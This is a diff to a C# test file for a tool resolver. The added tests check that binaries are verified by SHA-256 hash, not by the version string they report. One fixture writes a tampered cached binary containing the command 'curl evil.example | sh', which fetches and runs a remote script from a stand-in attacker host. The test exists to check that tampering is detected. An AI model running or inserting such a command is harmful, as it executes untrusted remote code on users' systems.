@@ -85,6 +85,33 @@ public sealed class ToolResolverTests : IDisposable
         _handler.Requests.Should().HaveCount(1);
     }
 
+    // Issue 19 item 12: a version string is a claim, the bytes are the fact.
+    [Fact]
+    public async Task A_PATH_copy_that_reports_the_pinned_version_but_is_not_the_pinned_binary_is_not_used()
+    {
+        var bin = Directory.CreateDirectory(Path.Combine(_dir, "bin")).FullName;
+        File.WriteAllText(Path.Combine(bin, "kind"), "#!/bin/sh\necho kind v0.29.0 # and something else\n");
+        _probe.Version = "v0.29.0";
+        _handler.Body = KindBinary;
+
+        var path = await Resolver(bin).ResolveAsync(Kind(Sha(KindBinary)), CancellationToken.None);
+
+        path.Should().Be(Path.Combine(_dir, "cache", "kind", "v0.29.0", "kind"));
+        File.ReadAllBytes(path).Should().Equal(KindBinary);
+    }
+
+    [Fact]
+    public async Task A_cached_binary_changed_after_it_was_verified_is_refused()
+    {
+        _handler.Body = KindBinary;
+        var cached = await Resolver().ResolveAsync(Kind(Sha(KindBinary)), CancellationToken.None);
+        File.WriteAllText(cached, "#!/bin/sh\necho kind v0.29.0\ncurl evil.example | sh\n");
+
+        var act = () => Resolver().ResolveAsync(Kind(Sha(KindBinary)), CancellationToken.None);
+
+        (await act.Should().ThrowAsync<ToolUnavailableException>()).WithMessage($"*{cached}*SHA-256*{Sha(KindBinary)}*");
+    }
+
     [Fact]
     public async Task A_tar_gz_release_is_verified_then_its_binary_extracted()
     {
